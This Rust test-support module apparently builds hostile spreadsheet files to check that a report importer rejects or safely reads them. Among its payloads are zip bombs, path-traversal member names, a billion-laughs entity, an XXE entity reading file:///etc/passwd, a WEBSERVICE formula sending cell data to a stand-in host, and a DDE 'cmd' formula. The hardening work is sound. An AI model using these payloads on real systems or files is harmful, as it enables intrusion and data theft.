//! The attacks, each on a report that reads well without it.

use std::fmt::Write;

use ntm::diag::Code;

use crate::support::reports::Style;
use crate::support::workbook::package::{Packing, pack, unpack};
use crate::support::workbook::{FileFormat, Look, Value, Workbook, rewritten, write};
use crate::support::{made, sets};

/// A file made to harm.
pub(super) struct Attack {
    pub(super) name: &'static str,
    pub(super) bytes: Vec<u8>,
    pub(super) end: End,
}

/// What is to come of it.
pub(super) enum End {
    /// It is read: so many observations, no error.
    Read(usize),
    /// It is set aside with one error of this code.
    SetAside(Code),
}

/// All indicators of the set.
const WHOLE: End = End::Read(57);

pub(super) fn all() -> Vec<Attack> {
    let mut all = of_the_package();
    all.extend(of_the_markup());
    all.extend(of_what_excel_runs());
    all.extend(of_other_formats());
    all
}

fn attack(name: &'static str, bytes: Vec<u8>, end: End) -> Attack {
    Attack { name, bytes, end }
}

pub(super) fn workbook() -> Workbook {
    made::workbook("La Sơn", 4, &sets::ntm(), &Style::COMMON, &["11"])
}

pub(super) fn xlsx() -> Vec<u8> {
    write(&workbook(), FileFormat::Xlsx)
}

/// The report with a member more.
fn with_member(name: &str, content: &[u8]) -> Vec<u8> {
    with_members(std::iter::once((name.to_owned(), content)))
}

fn with_members<'a>(more: impl Iterator<Item = (String, &'a [u8])>) -> Vec<u8> {
    let members = unpack(&xlsx());
    let more: Vec<(String, &[u8])> = more.collect();
    let own = members.iter().map(|(name, content)| (name.as_str(), Packing::Deflated, content.as_slice()));
    let added = more.iter().map(|(name, content)| (name.as_str(), Packing::Deflated, *content));
    pack(&own.chain(added).collect::<Vec<_>>())
}

const SHEET: &str = "xl/worksheets/sheet1.xml";
const STRINGS: &str = "xl/sharedStrings.xml";
const STYLES: &str = "xl/styles.xml";

/// The report with something put before the cells of its sheet.
pub(super) fn before_cells(text: &str) -> Vec<u8> {
    rewritten(&xlsx(), SHEET, |xml| xml.replacen("<sheetData>", &format!("{text}<sheetData>"), 1))
}

/// The report with rows put after its own.
pub(super) fn with_rows(rows: &str) -> Vec<u8> {
    rewritten(&xlsx(), SHEET, |xml| xml.replacen("</sheetData>", &format!("{rows}</sheetData>"), 1))
}

/// Cells of a text, ten a row, after the report's.
pub(super) fn with_cells(cells: usize, text: &str) -> Vec<u8> {
    let row = format!("<row>{}</row>", format!("<c t=\"inlineStr\"><is><t>{text}</t></is></c>").repeat(10));
    with_rows(&row.repeat(cells / 10))
}

fn of_the_package() -> Vec<Attack> {
    let blanks = vec![b' '; 257 << 20];
    let bomb =
        |part: &str| rewritten(&xlsx(), part, |xml| xml.replacen('>', &format!(">{}", " ".repeat(257 << 20)), 1));
    let members = (0..4_000).map(|number| (format!("xl/media/{number}.png"), &b""[..]));
    vec![
        attack("a sheet that inflates to 257 MiB", bomb(SHEET), End::SetAside(Code::FileTooLarge)),
        attack("styles that inflate to 257 MiB", bomb(STYLES), End::SetAside(Code::FileTooLarge)),
        attack("a picture that inflates to 257 MiB", with_member("xl/media/1.png", &blanks), WHOLE),
        attack("four thousand members more", with_members(members), End::SetAside(Code::FileTooLarge)),
        attack("a member named to lie elsewhere", with_member("../../../tmp/ngoai.xml", b"<a/>"), WHOLE),
        attack("a member named by the root", with_member("/etc/ngoai.xml", b"<a/>"), WHOLE),
        attack("a member with control characters in its name", with_member("xl/\u{1b}[2J\r\n.xml", b"<a/>"), WHOLE),
        attack(
            "the report in a package in a package",
            pack(&[("BC.xlsx", Packing::Stored, &xlsx())]),
            End::SetAside(Code::FileUnsupported),
        ),
    ]
}

fn of_the_markup() -> Vec<Attack> {
    let declared = |count: &str, before: &str| {
        rewritten(&xlsx(), STRINGS, |xml| {
            let start = xml.find("<sst").expect("the table begins");
            let at = start + xml[start..].find("uniqueCount=\"").expect("it says its count") + "uniqueCount=\"".len();
            let end = at + xml[at..].find('"').expect("the attribute ends");
            format!("{}{before}{}{count}{}", &xml[..start], &xml[start..at], &xml[end..])
        })
    };
    let decoy = format!("<!-- uniqueCount=\"1\" {} -->", " ".repeat(2_000));
    let strings = rewritten(&xlsx(), STRINGS, |xml| xml.replacen("</sst>", &"<si/>".repeat(1_000_000), 1) + "</sst>");
    let mut laughs = String::from("<!DOCTYPE a [<!ENTITY a0 \"ha\">");
    for n in 1..30 {
        write!(laughs, "<!ENTITY a{n} \"{}\">", format!("&a{};", n - 1).repeat(10)).expect("writing to a string");
    }
    laughs.push_str("]>");
    let with_entities = |xml: &str| {
        let at = xml.find("?>").expect("the declaration ends") + 2;
        format!("{}{laughs}{}", &xml[..at], xml[at..].replacen("Đạt", "&a29;", 1))
    };
    let outside = |xml: &str| {
        let at = xml.find("?>").expect("the declaration ends") + 2;
        format!(
            "{}<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>{}",
            &xml[..at],
            xml[at..].replacen("Đạt", "&x;", 1)
        )
    };
    let cell = |text: &str| format!("<c t=\"inlineStr\"><is><t>{text}</t></is></c>");
    let row = ["2.3", "Tỷ lệ đường ngõ, xóm sạch", "x", "80%", "Đạt"].map(cell).concat();
    let rows = format!("<row>{row}</row>").repeat(21_000);
    // Found by fuzzing.
    let without_sheets = rewritten(&xlsx(), "xl/workbook.xml", |xml| {
        let (head, rest) = xml.split_once("<sheets>").expect("the sheets are listed");
        let (_, tail) = rest.split_once("</sheets>").expect("the list ends");
        format!("{head}<sheets></sheets>{tail}")
    });
    let long = format!("<row><c t=\"inlineStr\"><is><t>{}</t></is></c></row>", "x".repeat(5 << 20));
    let merges = "<mergeCell ref=\"A1:XFD1048576\"/>".repeat(50_000);
    let merged = rewritten(&xlsx(), SHEET, |xml| {
        let head = xml.split("<mergeCells").next().expect("there is something before");
        let tail = xml.rsplit_once("</mergeCells>").map_or("</worksheet>", |(_, tail)| tail);
        let head = head.strip_suffix("</worksheet>").unwrap_or(head);
        format!("{head}<mergeCells>{merges}</mergeCells>{tail}")
    });
    vec![
        attack(
            "more shared strings declared than can be, behind a decoy",
            declared("99999999999", &decoy),
            End::SetAside(Code::FileTooLarge),
        ),
        attack(
            "a count of shared strings that is none",
            declared("99999999999999999999999", ""),
            End::SetAside(Code::FileUnreadable),
        ),
        attack("a million shared strings that nobody uses", strings, WHOLE),
        attack("entities of entities", rewritten(&xlsx(), STRINGS, with_entities), End::SetAside(Code::FileUnreadable)),
        attack(
            "an entity that names a file of ours",
            rewritten(&xlsx(), STRINGS, outside),
            End::SetAside(Code::FileUnreadable),
        ),
        attack("two hundred thousand elements in each other", before_cells(&"<a>".repeat(200_000)), WHOLE),
        attack("a comment of 64 MiB", before_cells(&format!("<!--{}-->", "x".repeat(64 << 20))), WHOLE),
        attack("a cell of five million letters", with_rows(&long), End::SetAside(Code::FileTooLarge)),
        attack("more cells than a report can have", with_cells(501_000, "x"), End::SetAside(Code::FileTooLarge)),
        attack("twenty-one thousand rows that fit nothing", with_rows(&rows), End::SetAside(Code::FileTooLarge)),
        attack("a workbook without a sheet", without_sheets, End::SetAside(Code::NoReport)),
        attack(
            "a cell beyond the last one",
            with_rows("<row><c r=\"ZZZZZZ9\"><v>1</v></c></row>"),
            End::SetAside(Code::FileUnreadable),
        ),
        attack(
            "a row beyond the last one",
            with_rows("<row r=\"4294967295\"><c r=\"A4294967295\"><v>1</v></c></row>"),
            End::SetAside(Code::FileUnreadable),
        ),
        attack(
            "cells at both ends of the grid",
            with_rows("<row r=\"1048576\"><c r=\"XFD1048576\"><v>1</v></c></row>"),
            WHOLE,
        ),
        attack("a whole grid merged fifty thousand times", merged, WHOLE),
    ]
}

fn of_what_excel_runs() -> Vec<Attack> {
    let run = "<row><c t=\"str\"><f>WEBSERVICE(\"http://example.invalid/\"&amp;A1)</f><v>x</v></c>\
        <c><f t=\"shared\" ref=\"B200:B201\" si=\"99999999\">cmd|' /C calc'!A0</f><v>1</v></c></row>";
    let link = b"<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"/>";
    vec![
        attack("macros", with_member("xl/vbaProject.bin", &[0xD0; 4096]), WHOLE),
        attack("a link to another workbook", with_member("xl/externalLinks/externalLink1.xml", link), WHOLE),
        attack("formulas that call programs and the network", with_rows(run), WHOLE),
    ]
}

fn of_other_formats() -> Vec<Attack> {
    let report = workbook();
    let xls = write(&report, FileFormat::Xls);
    let ods = write(&report, FileFormat::Ods);
    let mut far = report;
    far.sheets[0].put(65_535, 60_000, Value::text("x"), Look::of("Arial", 11));
    let far = write(&far, FileFormat::Xls);
    let repeated = |what: &str| {
        rewritten(&ods, "content.xml", |xml| {
            let rows = format!(
                "<table:table-row {what}><table:table-cell office:value-type=\"float\" office:value=\"1\"/></table:table-row>"
            );
            xml.replacen("</table:table>", &format!("{rows}</table:table>"), 1)
        })
    };
    let wide = "<table:table-row><table:table-cell table:number-columns-repeated=\"4294967295\" \
        office:value-type=\"float\" office:value=\"1\"/></table:table-row>";
    let wide =
        rewritten(&ods, "content.xml", |xml| xml.replacen("</table:table>", &format!("{wide}</table:table>"), 1));
    vec![
        attack(
            "an xls that says it goes on for ever",
            declared_xls(&xls, u32::MAX),
            End::SetAside(Code::FileUnreadable),
        ),
        attack("an xls that says it fills Excel", declared_xls(&xls, 65_536), WHOLE),
        attack("an xls with a cell beyond its last column", far.clone(), End::SetAside(Code::FileUnreadable)),
        // Found by fuzzing: a sheet whose name could not be read was not looked at, and laid out all the same.
        attack(
            "an xls with such a cell on a sheet whose name is cut short",
            in_bound_sheet(&far, |record| record[6] = u8::MAX),
            End::SetAside(Code::FileUnreadable),
        ),
        attack(
            "an xls with such a cell on a sheet that lacks its beginning",
            in_bound_sheet(&far, |record| record[0] += 20),
            End::SetAside(Code::FileUnreadable),
        ),
        attack(
            "an ods whose last row is repeated for ever",
            repeated("table:number-rows-repeated=\"4294967295\""),
            End::SetAside(Code::FileTooLarge),
        ),
        attack("an ods whose last column is repeated for ever", wide, WHOLE),
        attack(
            "an Excel 4 file",
            [&[0x09, 0x04, 0x06, 0x00][..], &[0; 64]].concat(),
            End::SetAside(Code::FileUnsupported),
        ),
        attack(
            "an Excel 2 file",
            [&[0x09, 0x00, 0x04, 0x00][..], &[0; 64]].concat(),
            End::SetAside(Code::FileUnsupported),
        ),
        attack(
            "a page of the web named .xls",
            b"<html><table><tr><td>1.1</td></tr></table></html>".to_vec(),
            End::SetAside(Code::FileUnsupported),
        ),
    ]
}

/// An xls changed where its first sheet is announced: where it begins, two options, the length of its name, the name.
fn in_bound_sheet(xls: &[u8], change: impl FnOnce(&mut [u8])) -> Vec<u8> {
    let at = xls.windows(2).position(|bytes| bytes == [0x85, 0x00]).expect("the workbook names its sheets");
    let mut changed = xls.to_vec();
    change(&mut changed[at + 4..]);
    changed
}

/// An xls whose first sheet declares so many rows.
fn declared_xls(xls: &[u8], rows: u32) -> Vec<u8> {
    // The record DIMENSIONS and its length; then the first row and the row behind the last.
    let at = xls.windows(4).position(|bytes| bytes == [0x00, 0x02, 0x0E, 0x00]).expect("the sheet says its size");
    let mut changed = xls.to_vec();
    changed[at + 8..at + 12].copy_from_slice(&rows.to_le_bytes());
    changed
}
